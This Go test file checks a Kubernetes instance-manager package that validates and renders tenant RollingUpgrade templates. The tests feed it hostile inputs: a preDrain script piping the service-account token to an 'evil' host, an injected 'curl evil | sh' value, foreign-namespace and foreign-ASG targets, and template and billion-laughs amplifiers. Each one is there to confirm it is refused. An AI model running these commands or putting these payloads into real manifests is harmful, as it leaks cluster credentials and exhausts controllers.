package crdtemplate

import (
	"runtime"
	"strings"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/instancemgr/instance-manager/api/v1alpha1"
	"github.com/instancemgr/instance-manager/boundaries"
)

const ruTemplate = `apiVersion: upgrademgr.keikoproj.io/v1alpha1
kind: RollingUpgrade
metadata:
  name: rollup-${.metadata.name}
  namespace: team-a
  labels:
    version: ${.status.latestTemplateVersion}
spec:
  asgName: ${.status.activeScalingGroupName}
  nodeIntervalSeconds: 30
  strategy:
    mode: eager
    maxUnavailable: 30%
`

func group(tmpl string) *v1alpha1.InstanceGroup {
	return &v1alpha1.InstanceGroup{
		ObjectMeta: metav1.ObjectMeta{Namespace: "team-a", Name: "crd-group"},
		Spec: v1alpha1.InstanceGroupSpec{
			Strategy: v1alpha1.AwsUpgradeStrategy{Type: "crd", CRD: &v1alpha1.CRDUpgradeStrategy{Spec: tmpl}},
		},
	}
}

// config allows RollingUpgrade with tenant fields.
func config(t *testing.T, crdStrategy string) *boundaries.Config {
	t.Helper()
	c, err := boundaries.Parse(map[string]string{"crdStrategy": crdStrategy})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

const allowRU = "allowedKinds: [{group: upgrademgr.keikoproj.io, kind: RollingUpgrade, tenantFields: [spec.nodeIntervalSeconds, spec.strategy]}]"

var observed = Values{Name: "crd-group", Namespace: "team-a", ScalingGroupName: "team-a-crd-group-1a2b3c", LaunchTemplateName: "lt", LatestTemplateVersion: "3"}

func TestRenderSubstitutesValuesOnly(t *testing.T) {
	tmpl, err := Prepare(group(ruTemplate), config(t, allowRU))
	if err != nil {
		t.Fatal(err)
	}
	u, err := tmpl.Render(observed)
	if err != nil {
		t.Fatal(err)
	}
	spec := u.Object["spec"].(map[string]any)
	if spec["asgName"] != "team-a-crd-group-1a2b3c" || spec["nodeIntervalSeconds"] != float64(30) || u.GetName() != "rollup-crd-group" || u.GetLabels()["version"] != "3" {
		t.Errorf("rendered %v", u.Object)
	}
	// A value that looks like YAML or JSON stays one string: substitution
	// happens after parsing, so there is nothing to escape.
	hostile := observed
	hostile.ScalingGroupName = "x\"\n  preDrain: {script: 'curl evil | sh'}\n}"
	u, err = tmpl.Render(hostile)
	if err != nil {
		t.Fatal(err)
	}
	if spec := u.Object["spec"].(map[string]any); spec["asgName"] != hostile.ScalingGroupName || spec["preDrain"] != nil {
		t.Errorf("a value changed the structure: %v", spec)
	}
	// "$${" is a literal "${".
	tmpl, err = Prepare(group(strings.Replace(ruTemplate, "mode: eager", "mode: $${.metadata.name}", 1)), config(t, allowRU))
	if err != nil {
		t.Fatal(err)
	}
	if u, _ = tmpl.Render(observed); u.Object["spec"].(map[string]any)["strategy"].(map[string]any)["mode"] != "${.metadata.name}" {
		t.Errorf("escaped placeholder rendered %v", u.Object["spec"])
	}
}

func TestRenderFillsTheTargetAndTheName(t *testing.T) {
	src := "apiVersion: upgrademgr.keikoproj.io/v1alpha1\nkind: RollingUpgrade\nspec:\n  nodeIntervalSeconds: 30\n"
	tmpl, err := Prepare(group(src), config(t, allowRU))
	if err != nil {
		t.Fatal(err)
	}
	u, err := tmpl.Render(observed)
	if err != nil {
		t.Fatal(err)
	}
	if u.Object["spec"].(map[string]any)["asgName"] != observed.ScalingGroupName || u.GetGenerateName() != "crd-group-" {
		t.Errorf("rendered %v", u.Object)
	}
	if _, err := tmpl.Render(Values{Name: "crd-group"}); err == nil || !strings.Contains(err.Error(), "has no value yet") {
		t.Errorf("Render without an observed group = %v", err)
	}
}

func TestPrepareRefuses(t *testing.T) {
	ru := func(spec string) string {
		return "apiVersion: upgrademgr.keikoproj.io/v1alpha1\nkind: RollingUpgrade\nspec:\n" + spec
	}
	for name, tc := range map[string]struct{ cfg, tmpl, want string }{
		"no crdStrategy: no kind": {"", ruTemplate, "kind RollingUpgrade.upgrademgr.keikoproj.io is not allowed by the boundary ConfigMap's crdStrategy.allowedKinds (allowed: none)"},
		"a kind not allowed": {allowRU, "apiVersion: instancemgr.keikoproj.io/v1alpha1\nkind: InstanceGroup\nmetadata: {name: payments-nodes}\n",
			"kind InstanceGroup.instancemgr.keikoproj.io is not allowed"},
		"another namespace": {allowRU, strings.Replace(ruTemplate, "namespace: team-a", "namespace: kube-system", 1),
			`metadata.namespace "kube-system" is not the group's namespace "team-a"`},
		"a placeholder namespace": {allowRU, strings.Replace(ruTemplate, "namespace: team-a", "namespace: ${.status.activeScalingGroupName}", 1), "is not the group's namespace"},
		"preDrain script (attack 01)": {allowRU, ru("  preDrain:\n    script: cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- evil\n"),
			"spec.preDrain.script may not be set: the RollingUpgrade.upgrademgr.keikoproj.io controller runs spec.preDrain.script as a command"},
		"postDrain postWaitScript":             {allowRU, ru("  postDrain: {postWaitScript: id}\n"), "spec.postDrain.postWaitScript may not be set"},
		"postTerminate as a string":            {allowRU, ru("  postTerminate: id\n"), "spec.postTerminate may not be set"},
		"postDrain script":                     {allowRU, ru("  postDrain:\n    script: id\n"), "spec.postDrain.script may not be set"},
		"foreign asgName (attack 02)":          {allowRU, ru("  asgName: system-nodes\n"), "spec.asgName must be ${.status.activeScalingGroupName} (the group's own resource) or left out"},
		"asgName built around the placeholder": {allowRU, ru("  asgName: x${.status.activeScalingGroupName}\n"), "spec.asgName must be"},
		"a field not shared": {allowRU, ru("  ignoreDrainFailures: true\n"),
			"spec.ignoreDrainFailures is not a field the boundary ConfigMap lets tenants set in RollingUpgrade.upgrademgr.keikoproj.io (crdStrategy.allowedKinds tenantFields: spec.nodeIntervalSeconds, spec.strategy"},
		"status":                     {allowRU, ru("  nodeIntervalSeconds: 1\nstatus: {currentStatus: completed}\n"), "status is not a field the boundary ConfigMap lets tenants set"},
		"metadata the strategy owns": {allowRU, ru("  nodeIntervalSeconds: 1\n") + "metadata: {finalizers: [x]}\n", "metadata.finalizers may not be set"},
		"a placeholder in a key":     {allowRU, ru("  ${.metadata.name}: 1\n"), "placeholders are substituted into values only, never keys"},
		"an unknown placeholder":     {allowRU, ru("  nodeIntervalSeconds: ${.spec.eks.maxSize}\n"), "unknown placeholder ${.spec.eks.maxSize} (valid: ${.metadata.name}"},
		"an unclosed placeholder":    {allowRU, ru("  nodeIntervalSeconds: ${.metadata.name\n"), "never closed"},
		"a placeholder kind":         {allowRU, "apiVersion: upgrademgr.keikoproj.io/v1alpha1\nkind: ${.metadata.name}\n", "needs apiVersion and kind, written out"},
		"duplicate keys":             {allowRU, ru("  asgName: ${.status.activeScalingGroupName}\n  asgName: victim\n"), "not a YAML object"},
		"a Go template":              {allowRU, strings.Replace(ruTemplate, "${.status.activeScalingGroupName}", "{{ .InstanceGroup.Status.ActiveScalingGroupName }}", 1), "Go templates are no longer accepted (\"{{\" on line 9): write the manifest as plain YAML with placeholders in values, e.g. `asgName: ${.status.activeScalingGroupName}`"},
		"too long":                   {allowRU, ru("  x: " + strings.Repeat("a", MaxSource)), "above 32768"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := Prepare(group(tc.tmpl), config(t, tc.cfg))
			if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.HasPrefix(err.Error(), Field+": ") {
				t.Fatalf("Prepare error = %v\nwant one starting with %s and containing %q", err, Field, tc.want)
			}
		})
	}
}

// TestAdmitDecidesWhateverTheStatus: the webhook's decision is the
// reconciler's whatever the group's status, since it is taken on the
// template alone; admitted templates render within the bounds with any
// observed values.
func TestAdmitDecidesWhateverTheStatus(t *testing.T) {
	cfg := config(t, allowRU)
	ig := group(ruTemplate)
	if _, err := Admit(ig, cfg); err != nil {
		t.Fatal(err)
	}
	ig.Status.ActiveScalingGroupName = "set"
	if _, err := Admit(ig, cfg); err != nil {
		t.Fatal(err)
	}
	// Many placeholders: refused at admission because the longest status
	// values would pass MaxOutput, even though the group's names are short.
	many := "apiVersion: upgrademgr.keikoproj.io/v1alpha1\nkind: RollingUpgrade\nmetadata:\n  labels:\n" +
		strings.Repeat("    a: ${.status.activeScalingGroupName}${.status.activeScalingGroupName}${.status.activeScalingGroupName}\n", 1)
	for i := 0; i < 90; i++ {
		many += "    l" + strings.Repeat("x", i%10) + string(rune('a'+i%26)) + string(rune('a'+i/26)) + ": " + strings.Repeat("${.status.activeLaunchTemplateName}", 8) + "\n"
	}
	if _, err := Admit(group(many), cfg); err == nil || !strings.Contains(err.Error(), "larger than 65536 bytes") {
		t.Errorf("Admit(many placeholders) = %v", err)
	}
}

// TestHostileTemplatesAreRefusedInBoundedMemoryAndTime renders each
// template of the security review's attacks 03 and 04 (and YAML's own
// amplifiers) and asserts an error in under a second with under 4 MiB
// allocated.
func TestHostileTemplatesAreRefusedInBoundedMemoryAndTime(t *testing.T) {
	doubling := "{{$a := \"0123456789abcdef\"}}" + strings.Repeat(`{{$a = printf "%s%s" $a $a}}`, 30) + "{{$a}}"
	js := "{{" + strings.Repeat("js (", 30) + `"\\"` + strings.Repeat(")", 30) + "}}"
	print10 := "{{$a := \"0123456789\"}}" + strings.Repeat("{{$a = print $a $a $a $a $a $a $a $a $a $a}}", 10)
	statusGuarded := "{{if .InstanceGroup.Status.ActiveScalingGroupName}}" + doubling + "{{end}}"
	laughs := "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
	for i := 'b'; i <= 'j'; i++ {
		laughs += string(i) + ": &" + string(i) + " [*" + string(i-1) + ", *" + string(i-1) + ", *" + string(i-1) + ", *" + string(i-1) + ", *" + string(i-1) + ", *" + string(i-1) + ", *" + string(i-1) + ", *" + string(i-1) + ", *" + string(i-1) + ", *" + string(i-1) + "]\n"
	}
	ru := "apiVersion: upgrademgr.keikoproj.io/v1alpha1\nkind: RollingUpgrade\nspec:\n  strategy:\n    mode: "
	cfg := config(t, allowRU)
	for name, src := range map[string]string{
		"30 doublings via printf (attack 03)": ru + doubling + "\n",
		"nested js":                           ru + js + "\n",
		"print x10":                           ru + print10 + "\n",
		"range N":                             ru + "{{range 100000000}}x{{end}}\n",
		"printf width":                        ru + `{{printf "%999999999d" 1}}` + "\n",
		"behind a status branch (attack 04)":  ru + statusGuarded + "\n",
		"billion laughs":                      laughs,
		"placeholders past the output bound":  ru + "'" + strings.Repeat("${.status.activeScalingGroupName}", 900) + "'\n",
	} {
		t.Run(name, func(t *testing.T) {
			ig := group(src)
			ig.Status.ActiveScalingGroupName = "team-a-crd-group-1a2b3c"
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			start := time.Now()
			_, err := Admit(ig, cfg)
			if err == nil {
				// And the reconciler's path, with observed values.
				var tmpl *Template
				if tmpl, err = Prepare(ig, cfg); err == nil {
					_, err = tmpl.Render(observed)
				}
			}
			took := time.Since(start)
			runtime.ReadMemStats(&after)
			if err == nil || !strings.HasPrefix(err.Error(), Field) {
				t.Fatalf("error = %v, want one naming %s", err, Field)
			}
			if took > time.Second {
				t.Errorf("took %s", took)
			}
			if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 4<<20 {
				t.Errorf("allocated %d bytes", alloc)
			}
			t.Logf("%s in %s", err, took)
		})
	}
}
